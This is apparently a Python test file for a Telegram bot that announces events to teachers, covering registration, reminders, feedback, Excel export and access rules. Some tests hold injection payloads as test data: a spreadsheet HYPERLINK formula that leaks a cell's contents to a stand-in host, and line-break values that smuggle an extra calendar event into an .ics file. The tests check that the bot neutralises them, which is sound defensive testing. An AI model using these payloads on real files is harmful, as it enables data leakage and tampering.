"""Events end to end through the fake Bot API: staff create a targeted event, only the teachers it
concerns receive it, registration with .ics, capacity, waiting list and deadline, an edit told to
those registered, reminders a day and an hour before (once), feedback, the digest, and roles."""

from __future__ import annotations

import asyncio
import io
from datetime import UTC, datetime
from typing import Any

import openpyxl
from sqlalchemy import select

import bot.jobs
from bot.callbacks import EventAction, EventCD, EventStaffAction, EventStaffCD
from bot.domain.diagnostics import StepForm
from bot.domain.events import BroadcastKind
from storage.models import Broadcast
from storage.repositories import Repos
from tests.conftest import BotEnv
from tests.fakes import TgUser
from tests.flows import (
    create_seminar,
    current_route,
    diagnosed_teacher,
    got,
    last_answer,
    open_section,
    register,
    settle,
    staff_user,
)


async def test_a_targeted_event_from_creation_to_reminders(env_all: BotEnv) -> None:
    env = env_all
    staff = await staff_user(env)
    anna = env.user(4101)
    await register(anna, name="Математикова Анна")  # г. Кострома, Гимназия № 15, математика
    dina = env.user(4102)
    await register(dina, name="Математикова Дина")
    eva = env.user(4103)
    await register(eva, name="Математикова Ева")
    fedor = env.user(4104)
    await register(fedor, name="Математиков Фёдор")
    boris = env.user(4105)
    await register(boris, name="Историков Борис", subjects=("История",))
    galina = env.user(4106)
    await register(galina, name="Галичская Галина", municipality="г. Галич", school="СОШ № 2")

    await create_seminar(staff)
    assert "Кому отправить" in staff.last_message.text
    await staff.click("🏙 Муниципалитеты")
    await staff.click("г. Кострома")
    await staff.click("✅ Готово")
    await staff.click("📚 Предметы")
    await staff.click("Математика")
    await staff.click("✅ Готово")
    text = staff.last_message.text
    assert "муниципалитеты: г. Кострома" in text and "предметы: Математика" in text
    assert "Получат: 5" in text  # four teachers and the staff member herself teach maths in Kostroma
    await staff.click("👁 Посмотреть, как увидят педагоги")
    preview = staff.last_message.text
    assert "Так сообщение увидят педагоги" in preview and "Формирующее оценивание" in preview
    assert "Мест: 2" in preview and "Запись до 29.11.2026 15:00" in preview
    await staff.click("🚀 Опубликовать сейчас (5)")
    await settle(env)

    # Only the teachers it concerns got it; the progress message ended as «завершена».
    for teacher in (anna, dina, eva, fedor):
        assert len(got(teacher, "Формирующее оценивание")) == 1
    for teacher in (boris, galina):
        assert got(teacher, "Формирующее оценивание") == []
    progress = [m for m in staff.messages if "Рассылка" in (m.text or "")]
    assert len(progress) == 1 and "Рассылка завершена" in progress[0].text
    assert "Доставлено: 5" in progress[0].text

    # Registration: the .ics comes at once; capacity 2, so the third one waits.
    announcement = got(anna, "Формирующее оценивание")[0]
    await anna.click("✅ Записаться", message=announcement)
    assert "Вы записаны" in last_answer(env)
    ics = anna.last_message
    assert ics.file_name == "event-1.ics" and b"BEGIN:VCALENDAR" in ics.document
    assert b"DTSTART" in ics.document and "Формирующее".encode() in ics.document
    await dina.click("✅ Записаться", message=got(dina, "Формирующее оценивание")[0])
    await eva.click("✅ Записаться", message=got(eva, "Формирующее оценивание")[0])
    assert "листе ожидания" in last_answer(env)
    assert "Вы в листе ожидания" in eva.last_message.text
    await anna.click("✅ Записаться", message=announcement)  # a double tap
    assert "уже записаны" in last_answer(env)

    # Dina cancels: Eva moves up and is told.
    await dina.click("❌ Отменить запись")
    await settle(env)
    assert got(eva, "Освободилось место")

    # The event is edited: those registered (Anna, Eva) are told, the others are not.
    await open_section(staff, "📣 Анонсы и объявления")
    await staff.click("Формирующее оценивание")
    assert "Записались: 2" in staff.last_message.text
    await staff.click("✏️ Изменить")
    await staff.click("Место или ссылку")
    await staff.send("https://webinar.example.org/new-room")
    await settle(env)
    assert got(anna, "Изменения в мероприятии") and got(eva, "Изменения в мероприятии")
    assert not got(dina, "Изменения в мероприятии") and not got(fedor, "Изменения в мероприятии")
    assert "new-room" in got(anna, "Изменения в мероприятии")[0].text

    # After the deadline nobody can register.
    env.clock.now = datetime(2026, 11, 29, 13, 0, tzinfo=UTC)  # 16:00 in Moscow, the day before
    await fedor.click("✅ Записаться", message=got(fedor, "Формирующее оценивание")[0])
    assert "Запись закрыта" in last_answer(env)

    # A day before: one reminder each; again: nothing. An hour before: one more.
    assert await bot.jobs.event_reminders() == 2
    assert await bot.jobs.event_reminders() == 0
    await settle(env)
    assert len(got(anna, "Завтра:")) == 1 and len(got(eva, "Завтра:")) == 1 and not got(fedor, "Завтра:")
    env.clock.now = datetime(2026, 11, 30, 11, 10, tzinfo=UTC)
    assert await bot.jobs.event_reminders() == 2
    await env.restart()
    assert await bot.jobs.event_reminders() == 0
    await settle(env)
    assert len(got(anna, "Через час:")) == 1 and len(got(anna, "Завтра:")) == 1

    # After the event: feedback, once.
    env.clock.now = datetime(2026, 11, 30, 16, 0, tzinfo=UTC)
    assert await bot.jobs.event_reminders() == 2
    assert await bot.jobs.event_reminders() == 0
    await settle(env)
    await anna.click("★★★★★")
    await anna.send("Очень полезно!")
    assert "Спасибо за отзыв" in anna.last_message.text

    # Staff: attendance marks, the spreadsheet.
    await open_section(staff, "📣 Анонсы и объявления")
    await staff.click("Формирующее оценивание")
    await staff.click("👥 Записавшиеся и посещение")
    await staff.click("▫️ Математикова Ева")
    assert "✅ Математикова Ева" in staff.buttons()
    await staff.click("⬅️ Назад")
    assert "Средняя оценка: 5" in staff.last_message.text
    await staff.click("📥 Выгрузить в Excel")
    book = openpyxl.load_workbook(io.BytesIO(staff.last_message.document))
    rows = list(book["Записавшиеся"].iter_rows(values_only=True))
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["Математикова Анна"][5] == 5 and by_name["Математикова Анна"][6] == "Очень полезно!"
    assert by_name["Математикова Ева"][4] == "да"
    assert by_name["Математикова Дина"][3] == "запись отменена"
    delivery = {r[0]: r[1] for r in book["Рассылка"].iter_rows(values_only=True)}
    assert delivery["Доставлено"] == 5


async def test_others_cannot_manage_events_and_teachers_see_only_theirs(env: BotEnv) -> None:
    staff = await staff_user(env)
    teacher = env.user(4201)
    await register(teacher, name="Учителева Вера", subjects=("История",))
    await create_seminar(staff)
    await staff.click("📚 Предметы")
    await staff.click("Математика")
    await staff.click("✅ Готово")
    await staff.click("👁 Посмотреть, как увидят педагоги")
    await staff.click("🚀 Опубликовать сейчас (1)")
    await settle(env)
    async with env.repos() as repos:
        event_id = (await repos.events.authored(None))[0].id
    # A history teacher: not for her, whatever button she forges.
    await teacher.click_data(EventCD(action=EventAction.OPEN, e=event_id).pack())
    assert "недоступно" in last_answer(env)
    await teacher.click_data(EventCD(action=EventAction.REG, e=event_id).pack())
    assert "недоступно" in last_answer(env)
    async with env.repos() as repos:
        user = await repos.users.by_tg_id(4201)
        assert user is not None and await repos.events.registration(event_id, user.id) is None
    # A teacher is no staff: managing is refused by role.
    await teacher.click_data(EventStaffCD(action=EventStaffAction.CANCEL, e=event_id).pack())
    assert "только сотрудникам с нужной ролью" in last_answer(env)
    await open_section(teacher, "📅 Мероприятия")
    assert "нет предстоящих мероприятий" in teacher.last_message.text


async def test_a_scheduled_event_goes_out_at_its_time_and_the_weekly_digest_once(env: BotEnv) -> None:
    staff = await staff_user(env)
    teacher = env.user(4301)
    await register(teacher, name="Дайджестова Ирина")
    await create_seminar(staff)
    await staff.click("👁 Посмотреть, как увидят педагоги")
    await staff.click("🕒 Запланировать")
    await staff.send("24.11.2026 10:00")
    assert "запланировано" in staff.last_message.text
    assert await bot.jobs.publish_events() == 0
    env.clock.now = datetime(2026, 11, 24, 7, 1, tzinfo=UTC)  # 10:01 in Moscow
    assert await bot.jobs.publish_events() == 1
    assert await bot.jobs.publish_events() == 0
    await settle(env)
    assert len(got(teacher, "Формирующее оценивание")) == 1
    # The digest: Monday 30.11 from 10:00 Moscow; not registered yet, so it is listed; once a week.
    env.clock.now = datetime(2026, 11, 30, 6, 30, tzinfo=UTC)  # 09:30 Monday in Moscow
    assert await bot.jobs.weekly_digest() == 0
    env.clock.now = datetime(2026, 11, 30, 7, 30, tzinfo=UTC)
    queued = await bot.jobs.weekly_digest()
    assert queued >= 1
    assert await bot.jobs.weekly_digest() == 0
    await settle(env)
    digest = got(teacher, "Подборка на ближайшие две недели")
    assert len(digest) == 1 and "Формирующее оценивание" in digest[0].text
    await teacher.click("🔕 Не присылать подборку", message=digest[0])
    async with env.repos() as repos:
        user = await repos.users.by_tg_id(4301)
        assert user is not None and user.digest_off
    async with env.repos() as repos:
        rows = list(await repos.session.scalars(select(Broadcast)))
    assert rows and rows[0].kind is BroadcastKind.EVENT


async def test_deleting_my_data_deletes_my_registrations_and_queued_messages(env: BotEnv) -> None:
    staff = await staff_user(env)
    teacher = env.user(4401)
    await register(teacher, name="Удаляемая Ольга")
    await create_seminar(staff)
    await staff.click("👁 Посмотреть, как увидят педагоги")
    await staff.click("🚀 Опубликовать сейчас (2)")
    await settle(env)
    await teacher.click("✅ Записаться", message=got(teacher, "Формирующее оценивание")[0])
    async with env.repos() as repos:
        user = await repos.users.by_tg_id(4401)
        assert user is not None
        user_id = user.id
    await teacher.send("/profile")
    await teacher.click("🗑 Удалить мои данные")
    await teacher.click("Да, удалить всё")
    async with env.repos() as repos:
        from storage.models import EventRegistration, OutboxMessage

        left = await repos.session.scalars(select(OutboxMessage).where(OutboxMessage.chat_id == 4401))
        assert list(left) == []
        regs = await repos.session.scalars(
            select(EventRegistration).where(EventRegistration.user_id == user_id)
        )
        assert list(regs) == []


async def test_an_event_registration_becomes_a_step_of_my_route(env: BotEnv) -> None:

    staff = await staff_user(env)
    teacher = await diagnosed_teacher(env, 4501, "Маршрутова Нина")
    await teacher.click("Построить ИОМ")
    await create_seminar(staff)
    await staff.click("👁 Посмотреть, как увидят педагоги")
    await staff.click("🚀 Опубликовать сейчас (2)")
    await settle(env)
    await teacher.click("✅ Записаться", message=got(teacher, "Формирующее оценивание")[0])
    await teacher.click("🧭 Добавить в мой ИОМ")
    assert "Добавлено в ваш ИОМ" in last_answer(env)
    route = await current_route(env, 4501)
    step = route.steps[-1]
    assert step.source == "event" and step.title == "Формирующее оценивание на уроках математики"
    assert step.form is StepForm.TRAINING and step.link == "https://webinar.example.org/room-15"
    assert "🧭 Добавить в мой ИОМ" not in teacher.buttons()


async def published_seminar(env: BotEnv, staff: TgUser, teachers: list[TgUser]) -> int:
    """The seminar of `create_seminar`, published to everyone, and its id."""
    await create_seminar(staff)
    await staff.click("👁 Посмотреть, как увидят педагоги")
    await staff.click("🚀 Опубликовать сейчас")
    await settle(env)
    async with env.repos() as repos:
        return (await repos.events.authored(None))[0].id


HOSTILE = '=HYPERLINK("http://x"&A2,"a")'


async def test_the_event_export_keeps_formula_like_and_control_text_as_plain_text(env: BotEnv) -> None:
    from sqlalchemy import update

    from storage.models import Event, Municipality, School, User

    staff = await staff_user(env)
    anna = env.user(4701)
    await register(anna, name="Математикова Анна")
    event_id = await published_seminar(env, staff, [anna])
    await anna.click("✅ Записаться", message=got(anna, "Формирующее оценивание")[0])
    env.clock.now = datetime(2026, 11, 30, 16, 0, tzinfo=UTC)
    await bot.jobs.event_reminders()
    await settle(env)
    await anna.click("★★★★★")
    await anna.send(HOSTILE + "\x01 спасибо")
    assert "Спасибо за отзыв" in anna.last_message.text
    # Free text that reaches the file from elsewhere: an imported name, school, municipality; a title.
    async with env.repos() as repos:
        user = await repos.users.by_tg_id(4701)
        assert user is not None
        await repos.session.execute(update(User).where(User.id == user.id).values(full_name="+SUM(1;2)\x02"))
        await repos.session.execute(
            update(School).where(School.id == user.school_id).values(short_name="-2+3\x03", name="-2+3")
        )
        await repos.session.execute(
            update(Municipality).where(Municipality.id == user.municipality_id).values(name="@cmd\x04")
        )
        await repos.session.execute(update(Event).where(Event.id == event_id).values(title="\t=1+1\x05"))
        await repos.commit()

    await staff.click_data(EventStaffCD(action=EventStaffAction.XLSX, e=event_id).pack())
    document = staff.last_message
    assert document.file_name == f"event-{event_id}.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(document.document))
    texts = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    texts[cell.value] = cell
    for expected in (HOSTILE + " спасибо", "+SUM(1;2)", "-2+3", "@cmd", "\t=1+1"):
        assert expected in texts, (expected, sorted(texts))
        assert texts[expected].quotePrefix


async def test_a_place_or_link_with_line_breaks_is_refused_and_the_calendar_never_fails(env: BotEnv) -> None:
    from icalendar import Calendar
    from sqlalchemy import update

    from storage.models import Event

    staff = await staff_user(env)
    anna = env.user(4711)
    await register(anna, name="Математикова Анна")
    await open_section(staff, "📣 Анонсы и объявления")
    await staff.click("➕ Новое мероприятие")
    await staff.click("🎓 Семинар")
    await staff.click("региональный уровень")
    await staff.send("Формирующее оценивание на уроках математики")
    await staff.click("Пропустить")
    await staff.send("30.11.2026 15:00")
    await staff.click("2 ч")
    # The wizard's place step: a line break or a control character is refused; the step stays.
    await staff.send("Гимназия № 15\nкабинет 21")
    assert "одной строкой" in staff.last_message.text
    await staff.send("https://webinar.example.org/room\x0115")
    assert "одной строкой" in staff.last_message.text
    await staff.send("https://webinar.example.org/room-15")
    assert "До какого момента можно записаться" in staff.last_message.text
    await staff.click("За сутки до начала")
    await staff.send("2")
    await staff.click("Пропустить")
    await staff.click("👁 Посмотреть, как увидят педагоги")
    await staff.click("🚀 Опубликовать сейчас")
    await settle(env)
    async with env.repos() as repos:
        event_id = (await repos.events.authored(None))[0].id
    # Editing the place later: the same rule.
    await staff.click_data(EventStaffCD(action=EventStaffAction.EDIT_FIELD, e=event_id, v="place").pack())
    await staff.send("https://webinar.example.org/new\nBEGIN:VEVENT")
    assert "одной строкой" in staff.last_message.text
    async with env.repos() as repos:
        stored = await repos.events.event(event_id)
        assert stored is not None and stored.link == "https://webinar.example.org/room-15"
    await staff.send("Актовый зал гимназии")
    assert any("Сохранено" in (m.text or "") for m in staff.replies)

    # Rows written before the rule: the calendar file is still made, and safely.
    async with env.repos() as repos:
        await repos.session.execute(
            update(Event)
            .where(Event.id == event_id)
            .values(
                title="Семинар\x02 по математике",
                description="Строка\x00 один\nСтрока два",
                place="Каб.\x01 21\r\nэтаж 2",
                link="https://webinar.example.org/r\r\nBEGIN:VEVENT\r\nSUMMARY:x",
            )
        )
        await repos.commit()
    await anna.click_data(EventCD(action=EventAction.REG, e=event_id).pack())
    ics = anna.last_message
    assert ics.file_name == f"event-{event_id}.ics", anna.last_message.text
    assert not any(byte < 0x20 and byte not in b"\r\n" for byte in ics.document)
    calendar = Calendar.from_ical(ics.document)
    (entry,) = calendar.walk("VEVENT")
    assert str(entry["summary"]) == "Семинар по математике"
    assert str(entry["location"]) == "Каб. 21 этаж 2"
    assert "url" not in entry  # not a valid link any more: it stays in the description as text
    assert ics.document.split(b"\r\n").count(b"BEGIN:VEVENT") == 1


async def test_two_people_taking_the_last_seat_at_once_one_goes_to_the_waiting_list(env_all: BotEnv) -> None:
    from tests.fakes import feed_deliver

    env = env_all
    staff = await staff_user(env)
    teachers = [env.user(4721 + i) for i in range(4)]
    for i, teacher in enumerate(teachers):
        await register(teacher, name=f"Математикова Анна {'АБВГ'[i]}")
    event_id = await published_seminar(env, staff, teachers)  # 2 seats
    await teachers[0].click("✅ Записаться", message=got(teachers[0], "Формирующее оценивание")[0])
    assert env.app is not None
    # The three others tap at the same moment, each update in its own session.
    racers = [TgUser(env.fake, feed_deliver(env.app.dp, env.app.bot), t.id) for t in teachers[1:]]
    await asyncio.gather(
        *(
            racer.click_data(
                EventCD(action=EventAction.REG, e=event_id).pack(), message=got(t, "Формирующее")[0]
            )
            for racer, t in zip(racers, teachers[1:], strict=True)
        )
    )
    async with env.repos() as repos:
        rows = await repos.events.registrations(event_id, ("registered", "waitlist"))
    statuses = sorted(r.status for r, _u in rows)
    assert statuses == ["registered", "registered", "waitlist", "waitlist"]


async def test_a_rating_before_the_end_is_refused_and_a_rating_never_marks_attendance(env: BotEnv) -> None:
    staff = await staff_user(env)
    anna = env.user(4731)
    await register(anna, name="Математикова Анна")
    event_id = await published_seminar(env, staff, [anna])
    await anna.click("✅ Записаться", message=got(anna, "Формирующее оценивание")[0])
    async with env.repos() as repos:
        user = await repos.users.by_tg_id(4731)
        assert user is not None
        row = await repos.events.registration(event_id, user.id)
        assert row is not None
        row_id = row.id

    async def stored() -> tuple[int | None, bool | None]:
        async with env.repos() as repos:
            current = await repos.events.registration_by_id(row_id)
            assert current is not None
            return current.rating, current.attended

    # A week before, and during the event: a forged rating and an attendance mark are refused.
    for moment in (env.clock.now, datetime(2026, 11, 30, 13, 0, tzinfo=UTC)):
        env.clock.now = moment
        await anna.click_data(EventCD(action=EventAction.RATE, e=event_id, p=5).pack())
        assert "после окончания" in last_answer(env)
        await staff.click_data(EventStaffCD(action=EventStaffAction.ATTEND, e=event_id, v=str(row_id)).pack())
        assert "после окончания" in last_answer(env)
        assert await stored() == (None, None)
    # Before the end the list shows who registered, without marks to tap.
    await staff.click_data(EventStaffCD(action=EventStaffAction.PEOPLE, e=event_id).pack())
    assert "после окончания" in staff.last_message.text
    assert "▫️ Математикова Анна" not in staff.buttons()

    # After the end (17:00 in Moscow): the rating is kept, attendance is the staff's to mark.
    env.clock.now = datetime(2026, 11, 30, 14, 5, tzinfo=UTC)
    await anna.click_data(EventCD(action=EventAction.RATE, e=event_id, p=4).pack())
    await anna.click("Без комментария")
    assert await stored() == (4, None)
    await staff.click_data(EventStaffCD(action=EventStaffAction.PEOPLE, e=event_id).pack())
    await staff.click("▫️ Математикова Анна")
    assert await stored() == (4, True)


async def test_the_last_seat_waits_for_a_registration_still_in_flight(env_all: BotEnv) -> None:
    """Another process is between taking the last seat and committing: a second registration
    waits for it and then finds the seat taken (on PostgreSQL the event's row lock, on SQLite the
    single writer) — it is never counted from a stale snapshot."""
    from bot.services import events as service

    env = env_all
    staff = await staff_user(env)
    teachers = [env.user(4741 + i) for i in range(3)]
    for i, teacher in enumerate(teachers):
        await register(teacher, name=f"Математикова Анна {'АБВ'[i]}")
    event_id = await published_seminar(env, staff, teachers)  # 2 seats
    await teachers[0].click("✅ Записаться", message=got(teachers[0], "Формирующее оценивание")[0])

    async def in_session(tg_id: int) -> tuple[Any, Any, Any]:
        assert env.app is not None
        session = env.app.sessionmaker()
        repos = Repos(session)
        user = await repos.users.by_tg_id(tg_id)
        event = await repos.events.event(event_id)
        return session, repos, (event, user)

    first, first_repos, (event_a, user_a) = await in_session(4742)
    second, second_repos, (event_b, user_b) = await in_session(4743)
    try:
        taken = await service.register(first_repos, event_a, user_a, env.clock())
        assert taken.status == "registered"

        async def register_second() -> str:
            result = await service.register(second_repos, event_b, user_b, env.clock())
            await second_repos.commit()
            return result.status

        racer = asyncio.create_task(register_second())
        await asyncio.sleep(0.5)  # the second registration is under way meanwhile
        await first_repos.commit()
        assert await asyncio.wait_for(racer, 20) == "waitlist"
    finally:
        await first.close()
        await second.close()
    async with env.repos() as repos:
        rows = await repos.events.registrations(event_id, ("registered", "waitlist"))
    assert sorted(r.status for r, _u in rows) == ["registered", "registered", "waitlist"]


def test_the_audience_picker_packs_the_same_callback_strings_for_events_and_surveys() -> None:
    """One component, two callback classes: the buttons of old messages keep working."""
    from bot.callbacks import EventStaffCD, SurveyStaffCD
    from bot.services.audience import AudienceKey, AudienceStep, key_of
    from bot.ui.audience import AudienceButtons

    assert AudienceButtons(EventStaffCD, e=7)(AudienceStep.AUD, "roles").pack() == "es:aud:7:roles:0"
    assert AudienceButtons(SurveyStaffCD, c=7)(AudienceStep.OPT, "subjects.math").pack().startswith("ss:opt:")
    assert key_of(AudienceStep.OPT, "municipalities.3") is AudienceKey.MUNICIPALITIES
    assert key_of(AudienceStep.AUD, "nonsense") is None
